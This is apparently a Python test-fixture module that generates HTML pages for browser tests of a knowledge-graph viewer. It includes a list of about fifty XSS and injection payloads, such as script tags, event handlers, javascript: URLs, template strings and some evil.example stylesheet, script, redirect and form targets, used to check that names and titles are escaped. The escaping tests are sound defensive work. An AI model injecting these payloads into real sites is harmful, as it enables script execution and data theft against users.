"""The pages that the browser tests open, each made from a ledger of its own."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

from commands import SEED
from made_readings import Said, build, reading_of

from kg.api import Graph
from kg.api.showing import view
from kg.ingest.articles import article_from_text
from kg.ledger import Ledger
from kg.model import Entity, Reading
from kg.pipeline import Pipeline
from kg.serve.page import built, filled
from kg.serve.page_data import contents, page_data, to_json
from kg.store.iris import PREFIXES

# Each must come out as text wherever a page shows it.
PAYLOADS = [
    "<script>hack(1)</script>", "</script><script>hack(2)</script>", "<img src=x onerror=hack(3)>", "<svg onload=hack(4)>",
    "\"><script>hack(5)</script>", "'><img src=x onerror='hack(6)'>", "<body onload=hack(7)>",
    "<iframe src=javascript:hack(8)>", "javascript:hack(9)", "<a href=javascript:hack(10)>x</a>", "<!--<script>hack(11)//-->",
    "]]><script>hack(12)</script>", "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<math><mtext></mtext></math>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<form action=//evil.example><input>",
    "<object data=javascript:hack(13)>", "<embed src=javascript:hack(14)>", "<details open ontoggle=hack(15)>",
    "<video><source onerror=hack(16)>", "<input autofocus onfocus=hack(17)>", "<marquee onstart=hack(18)>",
    "<svg><script>hack(19)</script></svg>", "{{data}}", "{{title}}", "${hack(20)}",
    "\\u003cscript\\u003ehack(21)\\u003c/script\\u003e", "&lt;script&gt;hack(22)&lt;/script&gt;", "\u2028hack(23)",
    "\u2029hack(24)", "\x00<script>hack(25)</script>", "\ufeff<script>hack(26)</script>",
    "<scr<script>ipt>hack(27)</scr</script>ipt>", "<ScRiPt>hack(28)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<div style=background:url(//evil.example/x.png)>", "<template><script>hack(29)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=hack(30)>\">", "<textarea></textarea><script>hack(31)</script>",
    "<title></title><script>hack(32)</script>", "\";hack(33);//", "';hack(34);//", "`;hack(35);//", "*/hack(36)/*",
    "__proto__", "constructor", "toString", "<img srcset=//evil.example/x.png>", "<a ping=//evil.example href=#>x</a>",
    "\u202egnp.exe\u202c<b>", "<b>bold</b>&amp;&#60;i&#62;",
]
LONG = "Very Long Name " * 700  # more than ten thousand characters
HEBREW, ARABIC = "בנימין נתניהו", "وزارة الخارجية المصرية"
NEWS = [
    ("Israel attacked Iran. Russia offered to mediate between Iran and Israel. Turkey may attack Syria.", "2025-06-13", "Reuters"),
    ("Iran denied that Israel had attacked Iran. Iran said that Israel had destroyed the dam.", "2025-06-14", "BBC News"),
    ("France plans to visit Germany. Germany did not attack France.", "2025-08-01", "Reuters"),
]


def person(key: str, name: str, alias: str = "") -> Entity:
    return Entity(key, name, "Person", aliases=(alias,) if alias else (), ancestors=("Agent", "Entity"))


def hostile() -> list[Reading]:
    """Every payload as a title, a name, an alias, a predicate and in a sentence."""
    readings = []
    for i, payload in enumerate(PAYLOADS):
        said = Said(f"e:a{i}.person", "meets", "e:bo.person", sentence=f"{payload} meets Bo.", quantity=payload,
                    details=(("topic", payload),))
        odd = Said(f"e:a{i}.person", f"praises {payload}", "e:bo.person", sentence=f"praises {payload} {payload}")
        readings.append(reading_of([said, odd], entities=[person(f"e:a{i}.person", payload, payload), person("e:bo.person", "Bo")],
                                   title=payload, url=payload if i % 2 else None, opening=f"{payload} {i} "))
    return readings


def strange() -> list[Reading]:
    names = {"e:long.person": LONG, "e:he.person": HEBREW, "e:ar.person": ARABIC, "e:empty.person": "",
             "e:smile.person": "😀 Smile"}
    said = [Said("e:long.person", "meets", "e:he.person"), Said("e:he.person", "warns", "e:ar.person"),
            Said("e:ar.person", "praises", "e:smile.person", sentence="😀 وزارة praises 😀 Smile."),
            Said("e:empty.person", "meets", "e:he.person")]
    return [reading_of(said, entities=[person(*pair) for pair in names.items()])]


def written(folder: Path, name: str, readings: Iterable[Reading]) -> None:
    """The page of a ledger with these readings."""
    with build(folder / f"{name}.kg", readings) as ledger:
        path = folder / f"{name}.html"
        path.write_bytes(view(ledger, f"{name}.kg", path))


def make_pages(folder: Path, pipeline: Pipeline) -> None:
    """All pages, into a folder."""
    seed = article_from_text(SEED.read_text(encoding="utf-8"), source=SEED.name)
    news = [article_from_text(text, published=published, publisher=publisher) for text, published, publisher in NEWS]
    ann = person("e:ann.person", "Ann")
    written(folder, "seed", pipeline.read([seed]))
    written(folder, "news", pipeline.read([seed, *news]))
    written(folder, "hostile", hostile())
    written(folder, "strange", strange())
    written(folder, "empty", [])
    written(folder, "one", [reading_of([Said(ann.id, "praises", ann.id)], entities=[ann])])
    with Ledger.open(folder / "seed.kg") as ledger:
        data = page_data(contents(ledger), "core.kg", PREFIXES, core=5)
        (folder / "core.html").write_text(filled(built(), "core.kg", to_json(data)), encoding="utf-8")
    with Graph.open(folder / "seed.kg") as graph:
        html = f'<!doctype html><html data-ready="true"><title>notebook</title>{graph._repr_html_()}</html>'
        (folder / "frame.html").write_text(html, encoding="utf-8")
